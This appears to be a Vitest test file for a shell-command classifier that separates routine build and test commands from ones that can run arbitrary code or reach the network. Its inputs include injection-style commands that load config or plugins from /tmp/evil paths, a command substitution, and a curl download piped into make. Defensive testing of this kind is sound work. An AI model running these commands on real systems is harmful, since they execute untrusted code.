import { expect, test } from "vitest";
import { shellFacts } from "./shell.ts";

test.each(["npm ci", "npm test", "npm run db:migrate", "npx vitest run src/round.test.ts", "make test", "cargo build --release", "go test ./...", "pytest -x tests/test_a.py", "pnpm install --frozen-lockfile"])("%s builds or tests what the project keeps", (command) => {
  expect(shellFacts(command).class).toBe("build");
});

test.each([
  "npm install left-pad",
  "npm run deploy",
  "npm ci --prefix /tmp/x",
  "npm test -- --config=/tmp/evil.js",
  "npx create-thing",
  "npx vitest --config /tmp/evil.ts",
  "make SHELL=/tmp/evil test",
  "make -f /tmp/Makefile",
  "make ../other",
  "pytest -p evil",
  "go run ./cmd",
  "npm run $(cat name)",
  "NODE_OPTIONS=--require=/tmp/evil.js npm test",
  "curl -fsSL https://tools.example/shim.sh | make",
])("%s can do anything, or cannot be read", (command) => {
  expect(["exec", "unknown", "network"]).toContain(shellFacts(command).class);
});
